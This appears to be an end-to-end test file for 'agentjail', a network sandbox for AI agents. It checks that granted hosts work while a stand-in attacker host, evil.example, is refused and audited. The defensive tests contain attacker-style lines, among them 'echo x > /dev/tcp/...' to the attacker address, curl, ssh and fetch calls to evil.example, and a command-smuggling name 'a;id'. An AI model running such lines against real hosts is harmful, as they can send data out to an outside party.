/**
 * `agentjail run` end to end in the lab, every case in both isolations.
 * Judges: the capture on the wire, the servers' own records, the kernel's state; never agentjail's word alone.
 */
import { join } from 'node:path'
import { setTimeout as sleep } from 'node:timers/promises'
import t, { type Test } from 'tap'
import { evil } from '../lab/addresses.js'
import type { RunOptions } from '../lab/host.js'
import { createLab, type Lab } from '../lab/lab.js'
import { root } from '../lab/paths.js'
import type { Packet } from '../lab/pcap.js'

const policyPath = '/etc/agentjail/policies/shows.yaml'
const caPolicyPath = '/etc/agentjail/policies/test-internet.yaml'

/** Node's own roots do not hold the lab's CA; the system's bundle does. */
const caPolicy = `version: 1
name: test-internet
env: { set: { NODE_EXTRA_CA_CERTS: /etc/ssl/certs/ca-certificates.crt } }
`
const policy = `version: 1
name: shows
extends: [./test-internet.yaml]
network:
  allow:
    - plain.example
    - { host: github.com, ports: [443, 22] }
    - { host: mutable.example, ports: [8088], inspect: none }
  dns: { maxTtl: 5, pinExtra: 1 }
`

const isolations = ['namespace', 'uid'] as const
type Isolation = (typeof isolations)[number]

interface Bench {
  readonly lab: Lab
  readonly isolation: Isolation
  /** agentjail's arguments up to the command. */
  readonly prefix: readonly string[]
  readonly run: (argv: readonly string[], options?: RunOptions) => ReturnType<Lab['run']>
}

const toEvil = (p: Packet) =>
  [evil.v4, evil.v6].some((a) => a === p.dst || a === p.src) ||
  p.dnsName?.endsWith('evil.example') === true

const auditRecords = async (lab: Lab, jail = 'shows') => {
  const { stdout } = await lab.run(['sh', '-c', `cat /var/log/agentjail/${jail}*`])
  const lines = stdout.split('\n').filter((line) => line !== '')
  return lines.map((line) => JSON.parse(line) as Record<string, unknown>)
}

const runTimeIsLimited = async (t: Test, { lab, isolation }: Bench) => {
  const path = '/etc/agentjail/policies/brief.yaml'
  lab.writeFile(path, 'version: 1\nname: brief\nlimits: { time: 2s }\n')
  const words = ['run', '--policy', path, '--isolation', isolation, '--', 'sleep', '60']
  const result = await lab.agentjail(words, { timeout: 40_000 })
  t.match(result.stderr, /the run time limit of 2 s is reached: the command is ended/)
  t.not(result.code, 0)
}

/** The bot of the examples, with the vendors' own clients, no proxy variable set. */
const bot = async (t: Test, { lab, isolation }: Bench) => {
  await lab.internet.pushTelegram('What holds you?')
  const before = lab.internet.served.length
  const policies = ['--policy', 'openai-telegram', '--policy', caPolicyPath]
  const command = ['--', 'node', 'bot.js', '--once']
  const result = await lab.agentjail(['run', ...policies, '--isolation', isolation, ...command], {
    cwd: join(root, 'examples/bot'),
    env: { OPENAI_API_KEY: 'sk-lab-0000', TELEGRAM_BOT_TOKEN: '4242:lab-token' },
    timeout: 40_000,
  })
  t.equal(result.code, 0, result.stderr)
  t.match(result.stdout, /answered: You said: What holds you\?/)
  await lab.sync()
  const served = lab.internet.served.slice(before).map((s) => `${s.url} ${s.status}`)
  for (const url of [
    '/v1/chat/completions 200',
    '/bot4242:lab-token/getUpdates 200',
    '/bot4242:lab-token/sendMessage 200',
  ]) {
    t.ok(served.includes(url), `${url} in ${served.join(', ')}`)
  }
}

/** By name and by address: an error at once, nothing on the wire, one record each. */
const evilIsRefused = async (t: Test, { lab, run, isolation }: Bench) => {
  // A redirected connection no longer tells which address was meant: the hello is all there is to log.
  const byAddress =
    isolation === 'namespace' ? { address: evil.v4 } : { port: 443, reason: 'sni-missing' }
  for (const [url, error, field] of [
    ['https://evil.example/', /Could not resolve host/, { name: 'evil.example' }],
    [`https://${evil.v4}/`, /Failed to connect|refused|reset/i, byAddress],
    [
      `http://${evil.v4}:8080/`,
      /Failed to connect|refused|reset/i,
      { address: evil.v4, port: 8080 },
    ],
  ] as const) {
    await lab.capture.clear()
    const known = (await auditRecords(lab)).length
    const result = await run(['curl', '-sS', '--max-time', '10', url])
    t.match(result.stderr, error, url)
    t.not(result.code, 28, `${url}: no time-out`)
    t.same(await lab.capture.packets(toEvil), [], `${url}: nothing on the wire`)
    const denials = (await auditRecords(lab)).slice(known).filter((r) => r['verdict'] === 'deny')
    t.match(denials, [field], `${url}: one record: ${JSON.stringify(denials)}`)
    t.equal(denials.length, 1)
    t.match(result.stderr, /agentjail: shows: blocked/, 'and the summary says it')
  }
}

/** While a jail runs, another user does what that user could do before. */
/** It is over before its gate would start: what waits at the gate's sockets starts it, and is judged and told. */
const lastWordIsTold = async (t: Test, { lab, run }: Bench) => {
  const known = (await auditRecords(lab)).length
  await run(['bash', '-c', `echo x > /dev/tcp/${evil.v4}/443`])
  const records = (await auditRecords(lab)).slice(known)
  t.match(records, [{ verdict: 'deny', port: 443 }])
}

const othersUntouched = async (t: Test, { lab, prefix }: Bench) => {
  const jail = lab.spawnAgentjail([...prefix, '--', 'sh', '-c', 'echo started; exec sleep 30'])
  await jail.until(/started/)
  await lab.capture.clear()
  lab.internet.evil.received = []
  for (const user of ['alice', 'root'] as const) {
    const https = await lab.run(['curl', '-sS', 'https://evil.example/'], { user })
    t.match(https.stdout, /evil received/, `${user}: https`)
    const query = await lab.run(['dig', '+short', 'evil.example', `@${evil.v4}`, '-p', '5353'], {
      user,
    })
    t.not(query.code, 127)
    await lab.run(['bash', '-c', `printf x > /dev/udp/${evil.v6}/51820`], { user })
    await lab.run(['ping', '-c', '1', '-W', '2', evil.v4], { user })
  }
  const packets = await lab.capture.packets(toEvil)
  const count = (proto: string, to: string) =>
    packets.filter((p) => p.proto === proto && p.dst === to).length
  t.equal(count('icmp', evil.v4), 2, 'echo requests')
  t.equal(count('udp', evil.v6), 2, 'datagrams')
  await lab.sync()
  t.equal(lab.internet.evil.received.filter((v) => v.sni === 'evil.example').length, 2)
  jail.kill('SIGTERM')
  await jail.ended
}

const python = (url: string) => [
  'python3',
  '-c',
  `import urllib.request as u; print(u.urlopen("${url}").read().decode())`,
]
const addrConfig = (name: string) => [
  ...['python3', '-c'],
  `from socket import *
print(*[getaddrinfo("${name}", 443, f, SOCK_STREAM, 0, AI_ADDRCONFIG)[0][4][0] for f in (AF_INET, AF_INET6)])`,
]
const nodeFetch = (url: string) => [
  ...['node', '--input-type=module', '-e'],
  `console.log(await (await fetch("${url}")).text())`,
]
const ssh = (host: string) => [
  ...['ssh', '-o', 'BatchMode=yes', '-o', 'StrictHostKeyChecking=no', '-o', 'LogLevel=ERROR'],
  ...[`git@${host}`, 'hello'],
]

/** Argv, then what it prints; the same program to the attacker, then what it says of its failure. */
const tools: [name: string, good: string[], printed: RegExp, bad: string[], error: RegExp][] = [
  [
    'curl',
    ['curl', '-sS', 'https://plain.example/a'],
    /path \/a/,
    ['curl', '-sS', 'https://evil.example/'],
    /resolve host/,
  ],
  [
    'node',
    nodeFetch('https://plain.example/b'),
    /path \/b/,
    nodeFetch('https://evil.example/'),
    /ENOTFOUND/,
  ],
  [
    'python',
    python('https://plain.example/c'),
    /path \/c/,
    python('https://evil.example/'),
    /Name or service not known|No address/,
  ],
  [
    'git',
    ['git', 'ls-remote', 'https://github.com/acme/demo'],
    /refs\/heads\/main/,
    ['git', 'ls-remote', 'https://evil.example/acme/demo'],
    /resolve host/,
  ],
  [
    'ssh',
    ssh('github.com'),
    /lab ran: hello/,
    ssh('evil.example'),
    /Could not resolve|Name or service/,
  ],
  [
    'ssh by address',
    ssh('github.com'),
    /lab ran: hello/,
    ssh(evil.v4),
    /refused|not permitted|prohibited|reset|closed/,
  ],
  [
    'dig',
    ['dig', '+short', 'plain.example'],
    /198\.51\.100\.30/,
    ['dig', 'evil.example'],
    /NXDOMAIN/,
  ],
  // AI_ADDRCONFIG with a family: names of a family that the host has no address of are not looked up at all.
  ...([4, 6] as const).map((family): (typeof tools)[number] => [
    `getent ahostsv${family}`,
    ['getent', `ahostsv${family}`, 'plain.example'],
    family === 4 ? /^198\.51\.100\.30 +STREAM/m : /^2001:db8:1::30 +STREAM/m,
    ['sh', '-c', `getent ahostsv${family} evil.example; echo code $?`],
    /^code 2$/m,
  ]),
  [
    'python with AI_ADDRCONFIG',
    addrConfig('plain.example'),
    /^198\.51\.100\.30 2001:db8:1::30$/m,
    addrConfig('evil.example'),
    /Name or service not known|No address/,
  ],
  [
    'dig to another server',
    ['dig', '+short', 'plain.example', '@8.8.8.8', '+tcp'],
    /198\.51\.100\.30/,
    ['dig', 'evil.example', `@${evil.v4}`],
    /NXDOMAIN/,
  ],
]

const toolsBehave = async (t: Test, { lab, run }: Bench) => {
  await lab.capture.clear()
  for (const [name, good, printed, bad, error] of tools) {
    const granted = await run(good)
    t.match(granted.stdout, printed, `${name}: granted: ${granted.stderr}`)
    const denied = await run(bad, { timeout: 15_000 })
    t.equal(denied.signal, null, `${name}: ungranted does not hang`)
    t.match(denied.stdout + denied.stderr, error, `${name}: ungranted`)
  }
  t.same(await lab.capture.packets(toEvil), [], 'nothing of it on the wire')
}

/** Asks over and over, until `done` says so; at most 60 times. */
const ask = async (
  jail: ReturnType<Lab['spawnAgentjail']>,
  request: string,
  done: (answer: string) => boolean,
) => {
  let answer = ''
  for (let i = 0; i < 60 && !done(answer); i++) {
    const seen = jail.stdout().length
    jail.write(`${request}\n`)
    for (let j = 0; j < 500 && !jail.stdout().slice(seen).endsWith('\n'); j++) await sleep(20)
    answer = jail.stdout().slice(seen)
    if (!done(answer)) await sleep(250)
  }
  return answer
}

/** Fetches each line's URL on a connection of its own; prints one line for it. */
const asker = `
const get = (url) => new Promise((done) =>
  require('http').get(url, { agent: false, headers: { host: 'mutable.example' } }, (r) => {
    let s = ''
    r.on('data', (d) => (s += d)).on('end', () => done(s.trim()))
  }).on('error', (e) => done(e.code)))
require('readline').createInterface({ input: process.stdin }).on('line', async (l) => console.log(await get(l)))`

const dnsIsFollowed = async (t: Test, { lab, prefix }: Bench) => {
  const [old, moved] = ['198.51.100.40', '198.51.100.41']
  await lab.dns.set('mutable.example', 'AAAA', [])
  await lab.dns.set('mutable.example', 'A', [old], 1)
  const jail = lab.spawnAgentjail([...prefix, '--', 'node', '-e', asker], { timeout: 180_000 })
  const by = (address: string) => (answer: string) => answer.includes(`address ${address} `)
  t.match(await ask(jail, 'http://mutable.example:8088/', by(old)), new RegExp(old))
  t.match(await ask(jail, `http://${old}:8088/`, by(old)), new RegExp(old), 'its address, pinned')
  await lab.dns.set('mutable.example', 'A', [moved], 1)
  t.match(await ask(jail, 'http://mutable.example:8088/', by(moved)), new RegExp(moved), 'followed')
  const refused = (answer: string) => /^E[A-Z]+/.test(answer)
  t.match(await ask(jail, `http://${old}:8088/`, refused), /^E/, 'the old address closes')
  await lab.capture.clear()
  await ask(jail, `http://${old}:8088/`, () => false).catch(() => undefined)
  // The server's end of a connection that was allowed may come late, and the kernel acknowledges it: no flag that opens
  // a connection, no data.
  const goesThere = (p: Packet) =>
    p.dst === old && (p.proto !== 'tcp' || p.flags.syn || p.length > 0)
  t.same(await lab.capture.packets(goesThere), [], 'and nothing goes there any more')
  jail.end()
  await jail.ended
}

/** What an end may leave: the log, and the service user's home with what the command wrote there. */
const mayStay = /^-?\/var\/(log|lib)\/agentjail\//

const endsLeaveNothing = async (t: Test, { lab, prefix, run }: Bench) => {
  await run(['true'])
  await lab.remember()
  const script = 'sleep 1000 & (setsid sleep 1000 &) ; echo started; '
  const clean = async (name: string) => {
    const { files, ...others } = await lab.leftovers()
    t.same(others, {}, `${name}: rules, links, routes, processes, namespaces, mounts`)
    t.same(
      (files ?? []).filter((path) => !mayStay.test(path)),
      [],
      `${name}: files`,
    )
  }
  t.match(await run(['sh', '-c', script]), { code: 0, signal: null })
  await clean('exit')
  t.match(await run(['sh', '-c', `${script} exit 42`]), { code: 42, signal: null })
  await clean('exit 42')
  const jail = lab.spawnAgentjail([...prefix, '--', 'sh', '-c', `${script} sleep 1000`])
  await jail.until(/started/)
  t.not((await lab.leftovers()).processes, undefined, 'there is something to leave')
  jail.kill('SIGTERM')
  t.match(await jail.ended, { code: null, signal: 'SIGTERM' })
  await clean('SIGTERM')
}

const badInput = async (t: Test, { lab }: Bench) => {
  await lab.remember()
  const cases: [args: string[], code: number, message: RegExp][] = [
    [['run', '--policy', 'no-such-policy', '--', 'true'], 2, /no-such-policy/],
    [['run', '--policy', 'openai', '--'], 2, /no command after --/],
    [['run', '--policy', 'openai', '--name', '../x', '--', 'true'], 2, /name/],
    [['run', '--policy', 'openai', '--name', 'a b', '--', 'true'], 2, /name/],
    [['run', '--policy', 'openai', '--name', 'a;id', '--', 'true'], 2, /name/],
    [['run', '--policy', 'openai', '--name', 'a'.repeat(200), '--', 'true'], 2, /name/],
    [['run', '--policy', 'openai', '--user', 'root', '--', 'true'], 125, /root/],
    [['run', '--policy', '/dev/null', '--', 'true'], 2, /./],
    [['run', '--nonsense'], 2, /nonsense/],
  ]
  for (const [args, code, message] of cases) {
    const name = args.slice(0, 5).join(' ').slice(0, 60)
    const result = await lab.agentjail(args)
    t.equal(result.code, code, `${name}: ${result.stderr}`)
    t.match(result.stderr, message, name)
    t.notMatch(result.stderr, /\n\s+at /, `${name}: no stack`)
  }
  const { files, ...others } = await lab.leftovers()
  t.same(others, {}, 'nothing changed')
  const made = (files ?? []).filter((path) => !path.startsWith('/run/agentjail/'))
  t.same(made, [], 'no file but the state directory')
}

/** A repository on a file system that is read-only, and a directory that is gone. */
const oddPlaces = async (t: Test, { lab, prefix, run }: Bench) => {
  const place = '/srv/read-only'
  const script = `mkdir ${place} && mount -t tmpfs none ${place} && mkdir ${place}/.git &&
    echo 'ref: refs/heads/main' > ${place}/.git/HEAD && mount -o remount,ro ${place}`
  const mounted = await lab.run(['sh', '-c', script])
  t.equal(mounted.code, 0, mounted.stderr)
  const held = await run(['sh', '-c', 'pwd; : > .git/commondir'], { cwd: place })
  t.equal(held.stdout, `${place}\n`, held.stderr)
  t.match(held.stderr, /Read-only file system/)
  await lab.run(['sh', '-c', `umount ${place} && rmdir ${place}`])
  const words = ['node', join(root, 'dist/bin/agentjail.cjs'), ...prefix, '--', 'true'].join(' ')
  const gone = await lab.run(['sh', '-c', `mkdir /srv/gone; cd /srv/gone; rmdir ../gone; ${words}`])
  t.equal(gone.code, 125)
  t.match(gone.stderr, /^agentjail: the working directory is not there any more/m)
}

/** Milliseconds: bounds a hang, judges no speed. */
const timeout = 300_000

t.setTimeout(2 * timeout)
for (const isolation of isolations) {
  t.test(isolation, { timeout }, async (t) => {
    const lab = await createLab()
    t.teardown(() => lab.close())
    lab.writeFile(policyPath, policy)
    lab.writeFile(caPolicyPath, caPolicy)
    lab.writeFile('/srv/work/README', 'a workspace\n')
    const pristine = await lab.rules()
    const prefix = ['run', '--policy', policyPath, '--isolation', isolation]
    const run = (argv: readonly string[], options: RunOptions = {}) =>
      lab.agentjail([...prefix, '--', ...argv], { cwd: '/srv/work', ...options })
    const bench = { lab, isolation, prefix, run }
    await t.test('bad input changes nothing', { timeout }, (t) => badInput(t, bench))
    await t.test('the example bot completes', { timeout }, (t) => bot(t, bench))
    await t.test('the attacker is refused at once', { timeout }, (t) => evilIsRefused(t, bench))
    await t.test('the last word is told', { timeout }, (t) => lastWordIsTold(t, bench))
    await t.test('other users notice nothing', { timeout }, (t) => othersUntouched(t, bench))
    await t.test('usual programs behave', { timeout }, (t) => toolsBehave(t, bench))
    await t.test('an address that changes is followed', { timeout }, (t) => dnsIsFollowed(t, bench))
    await t.test('run time is limited', { timeout }, (t) => runTimeIsLimited(t, bench))
    await t.test('odd working directories', { timeout }, (t) => oddPlaces(t, bench))
    await t.test('each end leaves nothing', { timeout }, (t) => endsLeaveNothing(t, bench))
    const uninstalled = await lab.agentjail(['uninstall'])
    t.equal(uninstalled.code, 0, uninstalled.stderr)
    t.equal(await lab.rules(), pristine, 'uninstalled, the ruleset is as before')
  })
}
